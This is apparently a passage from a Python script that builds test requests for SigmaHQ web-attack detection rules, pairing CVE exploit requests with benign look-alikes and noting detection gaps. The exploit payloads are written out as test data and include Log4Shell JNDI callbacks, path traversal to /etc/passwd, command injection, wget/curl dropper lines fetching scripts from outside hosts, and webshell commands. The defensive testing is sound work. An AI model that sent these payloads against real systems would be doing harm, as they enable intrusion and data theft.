A(S, "POST", "/sitecore/shell/ClientBin/Reporting/Report.ashx", 200,
  host="cms.example", ua=PYREQ, headers={"Content-Type": "text/xml"},
  note="NetDataContractSerializer gadget in body")
B(S, "GET", "/sitecore/login", 200, host="cms.example")

S = "web_cve_2021_43798_grafana"
# Grafana advisory: plugin static route + ../ traversal (curl --path-as-is)
A(S, "GET", "/public/plugins/alertlist/../../../../../../../../etc/passwd",
  200, host="grafana.example:3000", ua=CURL,
  also=("web_path_traversal_exploitation_attempt",),
  note="read /etc/passwd via alertlist plugin")
A(S, "GET", "/public/plugins/welcome/../../../../../../../../var/lib/grafana/"
  "grafana.db", 200, host="grafana.example:3000", ua=CURL,
  note="steal grafana.db via welcome plugin")
B(S, "GET", "/public/plugins/alertlist/module.js", 200,
  host="grafana.example:3000")

S = "web_cve_2021_44228_log4j"
# LunaSec: lookup in any logged header
A(S, "GET", "/api/v1/status", 200, host="app.example", ua=CURL,
  headers={"X-Api-Version": "${jndi:ldap://c6s9k2.oast.example/a}"},
  note="${jndi:ldap in X-Api-Version")
A(S, "GET", "/?q=%24%7Bjndi:ldap://c6s9k2.oast.example/a%7D", 200,
  host="app.example", ua=CURL, also=("web_cve_2021_44228_log4j_fields",),
  note="partially encoded lookup in the query")
A(S, "GET", "/login", 200, host="app.example", ua=CURL,
  headers={"X-Forwarded-For":
           "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://"
           "203.0.113.8/x}"},
  note="obfuscated ${::-j} lookup")
B(S, "GET", "/api/v1/status", 200, host="app.example")
B(S, "GET", "/api/v1/status", 200, host="app.example", ua="Nessus",
  browser=False,
  headers={"X-Api-Version": "${jndi:ldap://w.nessus.org/nessus}"},
  note="Nessus log4shell check: rule filters nessus callbacks")

S = "web_cve_2021_44228_log4j_fields"
A(S, "GET", "/", 200, host="app.example",
  ua="${jndi:ldap://45.83.193.150:1389/Exploit}",
  also=("web_cve_2021_44228_log4j",), note="lookup in User-Agent")
A(S, "GET", "/index.jsp", 200, host="app.example", ua=CURL,
  headers={"Referer": "${${lower:j}ndi:${lower:l}dap://203.0.113.8/a}"},
  also=("web_cve_2021_44228_log4j",), note="lower: obfuscation in Referer")
B(S, "GET", "/index.jsp", 200, host="app.example",
  headers={"Referer": "https://app.example/"})

S = "web_exchange_proxyshell"
# Orange Tsai / peterjson: autodiscover.json?@ SSRF to /powershell; a
# patched server (or missing X-Rps-CAT) answers 401
A(S, "POST", "/autodiscover/autodiscover.json?@evil.example/powershell/?"
  "X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdBZG1pbmlzdHJhdG9y&Email="
  "autodiscover/autodiscover.json%3F@evil.example", 401, host="mail.example",
  ua=PYREQ, note="ProxyShell remote PowerShell, 401")
A(S, "GET", "/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email="
  "autodiscover/autodiscover.json%3F@foo.com", 401, host="mail.example",
  ua=PYREQ, note="nuclei ProxyShell check, 401")
B(S, "GET", "/autodiscover/autodiscover.json?Email=jdoe%40contoso.com&"
  "Protocol=ActiveSync&RedirectCount=1", 200, host="mail.example",
  ua="Outlook-iOS/723.4027091.prod.iphone (4.2.0)", browser=False,
  note="Outlook mobile autodiscover")

S = "web_exchange_proxyshell_successful"
A(S, "POST", "/autodiscover/autodiscover.json?@evil.example/powershell/?"
  "X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBdBZG1pbmlzdHJhdG9y&Email="
  "autodiscover/autodiscover.json%3F@evil.example", 200, host="mail.example",
  ua=PYREQ, note="ProxyShell remote PowerShell accepted")
A(S, "POST", "/autodiscover/autodiscover.json?@evil.example/EWS/exchange.asmx"
  "?&Email=autodiscover/autodiscover.json%3F@evil.example", 200,
  host="mail.example", ua=PYREQ, note="ProxyShell EWS stage")
B(S, "POST", "/autodiscover/autodiscover.xml", 200, host="mail.example",
  ua="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328)",
  browser=False)

S = "web_sonicwall_jarrewrite_exploit"
# VisualDoor: Shellshock in the UA against jarrewrite.sh
A(S, "GET", "/cgi-bin/jarrewrite.sh", 200, host="sslvpn.example",
  ua="() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
  note="Shellshock via User-Agent")
B(S, "GET", "/cgi-bin/welcome", 200, host="sslvpn.example")

S = "web_exchange_exploitation_hafnium"
# Volexity: POSTs to OWA theme resources; ProxyLogon via /ecp/<x>.js with
# python-requests; webshells under aspnet_client driven by antSword
A(S, "POST", "/owa/auth/Current/themes/resources/lgnbotl.gif", 200,
  host="mail.example", ua=PYREQ, note="POST to OWA theme resources")
A(S, "POST", "/ecp/y.js", 200, host="mail.example",
  ua="python-requests/2.25.1",
  headers={"Cookie": "X-AnonResource=true; X-AnonResource-Backend=localhost"
                     "/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/"
                     "logon.aspx?~3;"},
  note="ProxyLogon SSRF through /ecp/y.js")
A(S, "POST", "/aspnet_client/system_web/supp0rt.aspx", 200,
  host="mail.example", ua="antSword/v2.1",
  headers={"Content-Type": "application/x-www-form-urlencoded"},
  note="China Chopper webshell driven by antSword")
# Same China Chopper drop reached with a crawler UA as it goes on the wire:
# the rule lists the UAs in IIS-log form (spaces written as '+'), so a log
# that keeps the raw header (Apache, this engine) does not match them.
A(S, "POST", "/aspnet_client/discover.aspx", 200, host="mail.example",
  ua="Googlebot/2.1 (+http://www.googlebot.com/bot.html)",
  headers={"Content-Type": "application/x-www-form-urlencoded"},
  gap="UA values are IIS-encoded ('+' for space); the wire/Apache UA has "
      "spaces, so selection_4's crawler UAs never match",
  note="webshell POST with a Googlebot UA")
B(S, "POST", "/owa/auth.owa", 302, host="mail.example",
  headers={"Content-Type": "application/x-www-form-urlencoded",
           "Referer": "https://mail.example/owa/auth/logon.aspx"})
B(S, "GET", "/owa/auth/Current/themes/resources/favicon.ico", 200,
  host="mail.example")

S = "web_unc2546_dewmode_php_webshell"
# Mandiant: DEWMODE lists/downloads via about.html?dwn=..&fn=..
A(S, "GET", "/about.html?dwn=Y2FmZWJhYmU%3D&fn=ZGF0YS56aXA%3D", 200,
  host="fta.example", ua=PYREQ, note="DEWMODE download request")
A(S, "GET", "/about.html?fn=ZGF0YS56aXA%3D&dwn=Y2FmZWJhYmU%3D", 200,
  host="fta.example", ua=PYREQ, note="same request, parameters swapped")
B(S, "GET", "/about.html?lang=en", 200, host="fta.example")

S = "web_cve_2022_21587_oracle_ebs"
# Rapid7 / hieuminhnv: uuencoded zip upload to BneViewerXMLService
A(S, "POST", "/OA_HTML/BneViewerXMLService?bne:uueupload=TRUE", 200,
  host="ebs.example", ua=PYREQ,
  headers={"Content-Type": "multipart/form-data; boundary=7e1a"},
  note="uueupload of a traversal zip")
A(S, "POST", "/OA_HTML/BneUploaderService?bne:uueupload=TRUE", 200,
  host="ebs.example", ua=PYREQ,
  headers={"Content-Type": "multipart/form-data; boundary=7e1a"},
  note="same via BneUploaderService")
B(S, "GET", "/OA_HTML/AppsLocalLogin.jsp", 200, host="ebs.example")

S = "web_cve_2022_27925_exploit"
# Volexity: mboximport zip slip (auth bypass answers 401 but extracts)
A(S, "POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&"
  "no-switch=1&append=1", 401, host="zimbra.example", ua=PYREQ,
  headers={"Content-Type": "application/x-www-form-urlencoded"},
  note="mboximport zip with ../ entries")
A(S, "GET", "/zimbraAdmin/0MVzAe6pgwe5go1D.jsp", 200, host="zimbra.example",
  ua=PYREQ, note="access to the dropped JSP webshell")
A(S, "GET", "/zimbraAdmin/0MVzAe6pgwe5go1D.jsp?cmd=id", 200,
  host="zimbra.example", ua=PYREQ,
  note="webshell with a query: stem ends with .jsp")
B(S, "POST", "/service/soap/AuthRequest", 200, host="zimbra.example",
  headers={"Content-Type": "application/soap+xml"})
B(S, "GET", "/zimbraAdmin/", 200, host="zimbra.example")

S = "web_cve_2022_31656_auth_bypass"
# petrusviet: /SAAS/t/_/;/ path confusion
A(S, "GET", "/SAAS/t/_/;/WEB-INF/web.xml", 200, host="ws1.example", ua=CURL,
  note="path confusion to WEB-INF")
A(S, "POST", "/SAAS/t/_/;/auth/login/embeddedauthbroker/callback", 302,
  host="ws1.example", ua=PYREQ, note="auth bypass login callback")
B(S, "GET", "/SAAS/auth/login", 200, host="ws1.example")

S = "web_cve_2022_31659_vmware_rce"
# petrusviet: migrate/tenant JDBC URL SQL injection
A(S, "POST", "/SAAS/jersey/manager/api/migrate/tenant", 200,
  host="ws1.example", ua=PYREQ,
  headers={"Content-Type": "application/vnd.vmware.horizon.manager.tenants."
                           "migration+json"},
  note="tenant migration with attacker JDBC URL")
B(S, "GET", "/SAAS/admin/", 200, host="ws1.example")

S = "web_cve_2022_33891_spark_shell_command_injection"
# sumsec / curl PoC: backtick command substitution in doAs
A(S, "GET", "/?doAs=`echo%20dG91Y2ggL3RtcC9wd25lZA==%20|%20base64%20-d%20|"
  "%20bash`", 403, host="spark.example:8080", ua=CURL,
  note="doAs command injection (ACLs on)")
# Python requests-based checkers send the same payload; requests
# percent-encodes the backtick, which the rule's literal '?doAs=`' misses.
A(S, "GET", "/?doAs=%60ping%20c6s9k2.oast.example%60", 403,
  host="spark.example:8080", ua=PYREQ,
  gap="rule matches a literal backtick only; requests/browsers send %60",
  note="doAs injection with encoded backticks")
B(S, "GET", "/jobs/", 200, host="spark.example:8080")
B(S, "GET", "/?doAs=alice", 200, host="spark.example:8080",
  note="legitimate proxy-user impersonation")

S = "web_cve_2022_36804_atlassian_bitbucket_command_injection"
# Assetnote: NUL-separated extra git arguments in prefix=
A(S, "GET", "/rest/api/latest/projects/TEST/repos/repo1/archive?filename="
  "pfnDJl&at=pfnDJl&path=pfnDJl&prefix=ax%00--exec=%60id%60%00--remote="
  "origin", 500, host="bitbucket.example", ua=PYREQ,
  note="git archive --exec injection")
B(S, "GET", "/rest/api/latest/projects/TEST/repos/repo1/archive?format=zip&"
  "prefix=repo1/", 200, host="bitbucket.example")

S = "web_cve_2022_36804_exchange_owassrf_exploitation"
# CrowdStrike OWASSRF: /owa/<mailbox>%40<domain>/powershell
A(S, "POST", "/owa/mastermailbox%40outlook.com/powershell", 200,
  host="mail.example", ua="python-requests/2.28.1",
  headers={"Content-Type": "application/soap+xml;charset=UTF-8"},
  note="OWA -> remote PowerShell SSRF")
A(S, "POST", "/owa/victim@contoso.com/powershell?PSVersion=5.1.19041.1682",
  200, host="mail.example", ua="python-requests/2.28.1",
  headers={"Content-Type": "application/soap+xml;charset=UTF-8"},
  note="unencoded @ variant")
B(S, "POST", "/owa/service.svc?action=GetFolder", 200, host="mail.example",
  headers={"Content-Type": "application/json; charset=utf-8"})
B(S, "POST", "/owa/HealthMailbox0f1e%40contoso.com/powershell", 200,
  host="mail.example", ua="Exchange BackEnd Probes", browser=False,
  note="Exchange managed-availability probe (filtered UA)")

S = "web_cve_2022_36804_exchange_owassrf_poc_exploitation"
A(S, "POST", "/owa/mastermailbox%40outlook.com/powershell", 200,
  host="mail.example",
  ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
     "like Gecko) Chrome/105.0.5195.54 Safari/537.36",
  headers={"X-OWA-ExplicitLogonUser": "owa/mastermailbox@outlook.com",
           "Content-Type": "application/soap+xml;charset=UTF-8"},
  also=("web_cve_2022_36804_exchange_owassrf_exploitation",),
  note="public PoC with its hard-coded Chrome/105 UA")
B(S, "GET", "/owa/", 200, host="mail.example")

S = "web_cve_2022_44877_exploitation_attempt"
# seclists FD 2023/Jan/1: login= $(...) with ${IFS}, base64 python revshell
A(S, "POST", "/login/index.php?login=$(echo${IFS}cHl0aG9uIC1jICdpbXBvcnQgc29ja"
  "2V0Jw==${IFS}|${IFS}base64${IFS}-d${IFS}|${IFS}bash)", 302,
  host="cwp.example:2031", ua=CURL,
  headers={"Content-Type": "application/x-www-form-urlencoded"},
  note="CWP login= command substitution")
B(S, "POST", "/login/index.php", 302, host="cwp.example:2031",
  headers={"Content-Type": "application/x-www-form-urlencoded"})

S = "web_cve_2022_46169_cacti_exploitation_attempt"
# Metasploit PR 17407: poller_id injection, msf's lowercase %-encoding
A(S, "GET", "/remote_agent.php?action=polldata&local_data_ids%5B%5D=6&host_id"
  "=1&poller_id=1%3b%60echo%20ZWNobyBoZWxsbw%3d%3d%20%7c%20base64%20-d%20%7c"
  "%20%2fbin%2fbash%60", 200, host="cacti.example",
  ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:108.0) Gecko/20100101",
  headers={"X-Forwarded-For": "127.0.0.1"},
  note="poller_id injection with XFF auth bypass")
A(S, "GET", "/remote_agent.php?action=polldata&local_data_ids[]=6&host_id=1&"
  "poller_id=;wget%20http://203.0.113.4/x.sh", 200, host="cacti.example",
  ua=CURL, headers={"X-Forwarded-For": "127.0.0.1"},
  note="botnet wget dropper")
B(S, "GET", "/remote_agent.php?action=polldata&local_data_ids[]=6&host_id=1&"
  "poller_id=1", 200, host="cacti.example", ua="Cacti/1.2.22", browser=False,
  note="legitimate remote poller call")

S = "web_exploit_cve_2023_22518_confluence_auth_bypass"
# ForceFledgling PoC: unauthenticated restore of a crafted backup
A(S, "POST", "/json/setup-restore.action?synchronous=true", 200,
  host="wiki.example", ua=PYREQ,
  headers={"X-Atlassian-Token": "no-check",
           "Content-Type": "multipart/form-data; boundary=c4f1"},
  note="setup-restore upload")
A(S, "POST", "/server-info.action?os_username=x", 302, host="wiki.example",
  ua=PYREQ, note="server-info.action probe")
B(S, "GET", "/login.action", 200, host="wiki.example")
B(S, "GET", "/json/setup-restore-progress.action", 405, host="wiki.example",
  note="GET, not the exploited POST")

S = "web_cve_2023_23752_joomla_exploit_attempt"
# xz.aliyun: public=true leaks application config
A(S, "GET", "/api/index.php/v1/config/application?public=true", 200,
  host="joomla.example", ua=PYREQ, note="config leak")
A(S, "GET", "/api/index.php/v1/users?public=true", 200, host="joomla.example",
  ua=PYREQ, note="user list leak")
B(S, "GET", "/api/index.php/v1/content/articles", 200, host="joomla.example",
  headers={"X-Joomla-Token": "c2hhMjU2OjE6YWJj"}, browser=False)

S = "web_cve_2023_25157_geoserver_sql_injection"
# win3zz PoC: strStartsWith in CQL_FILTER with SQL
A(S, "GET", "/geoserver/ows?service=WFS&version=1.0.0&request=GetFeature&"
  "typeName=topp:states&maxFeatures=1&outputFormat=json&CQL_FILTER="
  "strStartsWith%28STATE_NAME%2C%27x%27%27%29+%3D+true+and+1%3D%28SELECT+"
  "CAST+%28%28SELECT+version%28%29%29+AS+INTEGER%29%29+--+%27%29+%3D+true",
  400, host="gis.example", ua=PYREQ, note="error-based SQLi in CQL")
B(S, "GET", "/geoserver/ows?service=WFS&version=1.0.0&request=GetFeature&"
  "typeName=topp:states&CQL_FILTER=STATE_NAME%3D%27Texas%27", 200,
  host="gis.example")

S = "web_cve_2023_25717_ruckus_wireless_admin_exploit_attempt"
# cybir PoC: $(...) in password of a GET login
A(S, "GET", "/forms/doLogin?login_username=admin&password=password$(curl%20"
  "203.0.113.5:8000/r.sh%7Csh)&x=0&y=0", 200, host="ruckus.example", ua=CURL,
  note="command substitution in password")
B(S, "GET", "/forms/doLogin?login_username=admin&password=Spring2024%21&x=0&"
  "y=0", 302, host="ruckus.example")

S = "web_cve_2023_27997_pre_authentication_rce"
# Lexfo/watchTowr: oversized/odd enc= to hostcheck_validate
A(S, "GET", "/remote/hostcheck_validate?enc=" + "41" * 8 + "00" * 60 +
  "4141414141414141", 500, host="vpn.example", ua=PYREQ,
  note="heap overflow via malformed enc")
A(S, "POST", "/remote/logincheck?enc=e6b6d1f1" + "ff" * 40, 200,
  host="vpn.example", ua=PYREQ, note="enc on logincheck")
# Lexfo's PoC form: enc= in the urlencoded POST body, which no access log
# (and no log-phase inspector) sees; only the keyword 'enc=' would catch it.
A(S, "POST", "/remote/hostcheck_validate", 500, host="vpn.example", ua=PYREQ,
  headers={"Content-Type": "application/x-www-form-urlencoded"},
  gap="enc= travels in the POST body; request line and headers lack it",
  note="enc in the POST body")
B(S, "POST", "/remote/logincheck", 200, host="vpn.example",
  headers={"Content-Type": "text/plain;charset=UTF-8"})

S = "web_cve_2023_34362_known_payload_request"
# Mandiant: LEMURLOOT human2.aspx with X-siLock-* headers
A(S, "GET", "/human2.aspx", 200, host="moveit.example", ua=PYREQ,
  headers={"X-siLock-Comment": "8ba4f1e2-5c6d-4a3b-9e0f-1a2b3c4d5e6f",
           "X-siLock-Step1": "-1"},
  note="LEMURLOOT webshell list")
B(S, "GET", "/human.aspx", 200, host="moveit.example")

S = "web_exploit_cve_2023_43261_milesight_information_disclosure"
# win3zz: httpd.log world-readable under /lang/log/
A(S, "GET", "/lang/log/httpd.log", 200, host="router.example", ua=CURL,
  note="credential leak through httpd.log")
B(S, "GET", "/lang/English.json", 200, host="router.example")

S = "web_cve_2023_46214_rce_splunk_enterprise"
# nathan31337 PoC step 1: upload of a malicious XSL through preview
A(S, "POST", "/en-US/splunkd/__upload/indexing/preview?output_mode=json&"
  "props.NO_BINARY_CHECK=1&input.path=search.xsl", 200, host="splunk.example",
  ua=PYREQ, headers={"Content-Type": "multipart/form-data; boundary=aa"},
  note="XSL upload (renamed file)")
B(S, "POST", "/en-US/splunkd/__upload/indexing/preview?output_mode=json&"
  "props.NO_BINARY_CHECK=1&input.path=access.log", 200,
  host="splunk.example",
  headers={"Content-Type": "multipart/form-data; boundary=aa"},
  note="Add Data preview of a log file")

S = "web_cve_2023_46214_rce_splunk_enterprise_poc"
A(S, "POST", "/en-US/splunkd/__upload/indexing/preview?output_mode=json&"
  "props.NO_BINARY_CHECK=1&input.path=shell.xsl", 200, host="splunk.example",
  ua=PYREQ, headers={"Content-Type": "multipart/form-data; boundary=aa"},
  also=("web_cve_2023_46214_rce_splunk_enterprise",),
  note="public PoC uploads shell.xsl")
B(S, "GET", "/en-US/app/search/search", 200, host="splunk.example")

S = "web_cve_2023_46747_f5_remote_code_execution"
# The rule needs body data (its definition says so) and joins two steps of
# the chain.  Modelled as a body-logging sensor would record the smuggled
# user-creation form: body moved into the query (corpus convention).
A(S, "POST", "/mgmt/tm/util/bash?body=/tmui/Control/form%3Fform_page="
  "%2ftmui%2fsystem%2fuser%2fcreate.jsp", 200, host="bigip.example",
  ua=PYREQ, headers={"Content-Type": "application/json",
                     "X-F5-Auth-Token": "QVZPTEkxMjM0NTY3ODkw"},
  also=("web_f5_tm_utility_bash_api_request",),
  note="MODELLED: body moved into query (rule needs POST body)")
B(S, "POST", "/tmui/login.jsp", 200, host="bigip.example",
  headers={"Content-Type": "application/x-www-form-urlencoded"})

S = "web_exploit_cve_2023_4966_citrix_sensitive_information_disclosure_exploit"
# Assetnote: Citrix Bleed, oversized Host leaks memory (and session tokens)
A(S, "GET", "/oauth/idp/.well-known/openid-configuration", 200,
  host="a" * 24812, ua=PYREQ,
  also=("web_exploit_cve_2023_4966_citrix_sensitive_information_disclosure"
        "_exploit_attempt",),
  note="Citrix Bleed with 24812-byte Host")
A(S, "GET", "/oauth/idp/.well-known/openid-configuration", 200,
  host="gw.example", ua=CURL, note="scanner probing the endpoint")
B(S, "GET", "/logon/LogonPoint/index.html", 200, host="gw.example")

S = ("web_exploit_cve_2023_4966_citrix_sensitive_information_disclosure"
     "_exploit_attempt")
A(S, "GET", "/oauth/idp/.well-known/openid-configuration", 400,
  host="b" * 8000, ua=PYREQ, note="long Host, patched box answers 400")
B(S, "GET", "/logon/LogonPoint/tmindex.html", 200, host="gw.example")

S = "web_exploit_cve_2024_1212_"
# RhinoSecurityLabs PoC: command in the Basic-auth username
A(S, "GET", "/access/set?param=enableapi&value=1", 401, host="lm.example",
  ua=PYREQ, headers={"Authorization": "Basic JztpZDtlY2hvICc6eA=="},
  note="';id;echo ' as Basic username")
B(S, "GET", "/access/set?param=enableapi&value=1", 200, host="lm.example",
  headers={"Authorization": "Basic YmFsOjJmb3VyYWxs"}, browser=False,
  note="admin enables the API with real credentials")

S = "web_exploit_cve_2024_1709_screenconnect"
# Huntress: trailing path after SetupWizard.aspx skips the setup check
A(S, "GET", "/SetupWizard.aspx/huntress", 200, host="sc.example", ua=PYREQ,
  note="setup wizard re-entry")
A(S, "POST", "/SetupWizard.aspx/", 200, host="sc.example", ua=PYREQ,
  headers={"Content-Type": "application/x-www-form-urlencoded"},
  note="admin user creation post")
B(S, "GET", "/SetupWizard.aspx", 302, host="sc.example")

S = "web_lnx_exploit_cve_2025_31324_sap_netviewer_webshell"
# EclecticIQ: helper.jsp / cache.jsp shells under /irj/ with cmd=
A(S, "GET", "/irj/helper.jsp?cmd=whoami", 200, host="sap.example", ua=CURL,
  also=("web_win_webshells_in_access_logs",),
  note="webshell command whoami")
A(S, "GET", "/irj/cache.jsp?cmd=cat%20%2Fetc%2Fpasswd", 200,
  host="sap.example", ua=CURL, note="webshell reading /etc/passwd")
A(S, "POST", "/irj/helper.jsp?x=echo%20aWQ%3D%20%7C%20base64%20-d%20%7C%20sh",
  200, host="sap.example", ua=CURL, note="base64 staged command")
B(S, "GET", "/irj/portal", 200, host="sap.example")

S = "web_lnx_exploit_cve_2025_31324_sap_netviewer_webshell_uploaded"
A(S, "POST", "/irj/servlet_jsp/irj/root/helper.jsp", 200, host="sap.example",
  ua=PYREQ, headers={"Content-Type": "application/octet-stream"},
  note="JSP written as octet-stream under /irj/")
B(S, "POST", "/irj/portal", 200, host="sap.example",
  headers={"Content-Type": "application/x-www-form-urlencoded"})

S = "web_invanti_epmm_cve_2025_4427_and_cve_2025_4428"
# watchTowr: EL injection in format= of featureusage
A(S, "GET", "/mifs/rs/api/v2/featureusage?format=%24%7b''.getClass().forName"
  "('java.lang.Runtime').getMethod('getRuntime').invoke(''.getClass()."
  "forName('java.lang.Runtime')).exec('id')%7d", 400, host="epmm.example",
  ua=PYREQ, note="EL RCE in format")
A(S, "GET", "/mifs/rs/api/v2/featureusage?format=%24%7B7*7%7D", 400,
  host="epmm.example", ua=PYREQ, note="7*7 template probe")
B(S, "GET", "/mifs/rs/api/v2/featureusage?adminDeviceSpaceId=1&format=json",
  200, host="epmm.example")

S = "web_win_iis_exploit_cve_2025_53770"
# Eye Security: ToolPane POST with the SignOut.aspx Referer
A(S, "POST", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
  200, host="sp.example",
  ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 "
     "Firefox/120.0",
  headers={"Referer": "/_layouts/SignOut.aspx",
           "Content-Type": "application/x-www-form-urlencoded"},
  note="ToolShell deserialisation POST")
B(S, "GET", "/_layouts/15/ToolPane.aspx?DisplayMode=Edit", 200,
  host="sp.example",
  headers={"Referer": "https://sp.example/sites/team/SitePages/Home.aspx"})

S = "web_exploit_cve_2026_63030_batch_rest_route_abuse"
# wp2shell PoC: POST ?rest_route=/batch/v1, endpoint answers 207
A(S, "POST", "/?rest_route=/batch/v1", 207, host="blog.example",
  ua=PYREQ, headers={"Content-Type": "application/json"},
  note="batch endpoint via rest_route")
A(S, "POST", "/index.php?rest_route=%2Fbatch%2Fv1", 207, host="blog.example",
  ua=PYREQ, headers={"Content-Type": "application/json"},
  note="encoded rest_route")
B(S, "POST", "/wp-json/batch/v1", 207, host="blog.example",
  headers={"Content-Type": "application/json",
           "X-WP-Nonce": "3f2a1b0c9d"},
  note="block editor batch through pretty permalinks")

S = "web_exploit_cve_2026_63030_webshell_plugin_access"
A(S, "GET", "/wp-content/plugins/wp2shell_7f3a/wp2shell_7f3a.php?c=id", 200,
  host="blog.example", ua=PYREQ, note="command through wp2shell plugin")
B(S, "GET", "/wp-content/plugins/akismet/_inc/akismet.js?ver=5.3", 200,
  host="blog.example")
B(S, "GET", "/wp-content/plugins/wp2shell_7f3a/", 403, host="blog.example",
  ua=PYREQ, browser=False,
  note="no query string: rule excludes cs-uri-query null")

S = "web_exploit_cve_2026_63030_wp2shell_tool_useragent"
A(S, "POST", "/?rest_route=/batch/v1", 207, host="blog.example",
  ua="wp2shell", headers={"Content-Type": "application/json"},
  also=("web_exploit_cve_2026_63030_batch_rest_route_abuse",),
  note="tool UA during exploitation")
A(S, "GET", "/wp-login.php", 200, host="blog.example", ua="wp2shell",
  note="tool UA fingerprinting")
B(S, "GET", "/wp-cron.php?doing_wp_cron=1732700000.1", 200,
  host="blog.example", ua="WordPress/6.7; https://blog.example",
  browser=False)

S = "web_malware_redtail_useragent"
# ISC diary 32936: libredtail-http scans for PHPUnit / Apache traversal
A(S, "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404,
  host="www.example", ua="libredtail-http",
  headers={"Content-Type": "application/x-www-form-urlencoded"},
  note="PHPUnit eval-stdin probe")
A(S, "POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh", 200,
  host="www.example", ua="libredtail-http",
  also=("web_cve_2021_41773_apache_path_traversal",),
  note="CVE-2021-41773 RCE dropper")
B(S, "GET", "/", 200, host="www.example")


def main():
    ids = rule_ids()
    base = datetime.datetime(2026, 11, 27, 10, 0, 0,
                             tzinfo=datetime.timezone.utc)
    counters = {}
    lines = []
    missing = set()
    for i, c in enumerate(CASES):
        if c["stem"] not in ids:
            missing.add(c["stem"])
            continue
        key = (c["stem"], c["kind"])
        counters[key] = counters.get(key, 0) + 1
        ev = {
            "id": "%s-%s-%d" % (c["stem"], c["kind"], counters[key]),
            "source": "sigmahq-conformance",
            "method": c["method"], "uri": c["uri"], "version": "HTTP/1.1",
            "headers": c["headers"], "status": c["status"],
            "client": ("203.0.113.%d" % (10 + i % 200)
                       if c["kind"] == "attack" else
                       "192.0.2.%d" % (10 + i % 200)),
            "time": (base + datetime.timedelta(seconds=7 * i))
            .strftime("%Y-%m-%dT%H:%M:%SZ"),
            "expect": ([ids[c["stem"]]] + [ids[a] for a in c["also"]]
                       if c["kind"] == "attack" else []),
            "note": c["note"],
        }
        if c["gap"]:
            ev["gap"] = c["gap"]
        lines.append(json.dumps(ev, ensure_ascii=True))
    if missing:
        sys.exit("unknown rule stems: %s" % ", ".join(sorted(missing)))
    covered = {c["stem"] for c in CASES
               if c["kind"] == "attack" and not c["gap"]}
    web = {s for s in ids if s not in ("web_apache_segfault",
                                       "web_apache_threading_error")}
    # username-dependent rules live in access.log (combined format)
    web -= {"web_cve_2021_26084_confluence_rce_exploit",
            "web_cve_2021_26858_iis_rce"}
    if web - covered:
        sys.exit("rules without attack: %s" % ", ".join(sorted(web - covered)))
    with open(os.path.join(HERE, "requests.jsonl"), "w") as fh:
        fh.write("\n".join(lines) + "\n")
    print("%d requests for %d rules" % (len(lines), len(covered)))


# Rules tested from access.log / errors.log (see *.expect there).
LOG_CASES = {
    "web_apache_segfault": (
        "errors.log:3,9 — AH00051 \"child pid … exit signal Segmentation "
        "fault (11)\" from the MPM parent", "fires (case-insensitive keyword)"),
    "web_apache_threading_error": (
        "errors.log:6 — glibc `tpp.c:82: __pthread_tpp_change_priority: "
        "Assertion …` written by a child to stderr",
        "fires (unprefixed stderr line read as an error entry, "
        "see Error log)"),
    "web_cve_2021_26084_confluence_rce_exploit": (
        "access.log:1-2 — anonymous POST /pages/createpage-entervariables."
        "action?SpaceKey=x, and doenterpagevariables with a \\u0027 payload",
        "fires (combined log: needs %u = anonymous)"),
    "web_cve_2021_26858_iis_rce": (
        "access.log:5 — ProxyLogon SSRF reaches SetObject?schema="
        "ResetOABVirtualDirectory as machine account CONTOSO\\EXCH01$",
        "fires (combined log: needs %u ending in $)"),
}


def docs_table():
    """Markdown table for docs/SIGMAHQ.md (rule file, id, attack, status)."""
    reqs = []
    with open(os.path.join(HERE, "requests.jsonl")) as fh:
        reqs = [json.loads(line) for line in fh if line.strip()]
    rows = []
    for top in ("rules", "rules-emerging-threats"):
        for d, _, files in os.walk(os.path.join(SIGMAHQ, top)):
            rows += [(os.path.relpath(os.path.join(d, f), SIGMAHQ), stem_of(f))
                     for f in files if f.endswith(".yml")]
    ids = rule_ids()
    print("| rule file | id | attack realised | status |")
    print("|---|---|---|---|")
    for rel, stem in sorted(rows):
        if stem in LOG_CASES:
            what, status = LOG_CASES[stem]
        else:
            att = [q for q in reqs if q["id"].startswith(stem + "-attack-")]
            ok = [q for q in att if not q.get("gap")]
            gaps = [q for q in att if q.get("gap")]
            what = "; ".join(q["note"] for q in ok[:2])
            if len(ok) > 2:
                what += " (+%d)" % (len(ok) - 2)
            status = "fires"
            if any(q["note"].startswith("MODELLED") for q in ok):
                status = "fires on a modelled event (rule needs the POST body)"
            if gaps:
                status += "; gap: " + gaps[0]["gap"]
        print("| `%s` | `%s` | %s | %s |" % (rel, ids[stem],
                                            what.replace("|", "\\|"),
                                            status.replace("|", "\\|")))


if __name__ == "__main__":
    if sys.argv[1:] == ["--docs-table"]:
        docs_table()
    else:
        main()
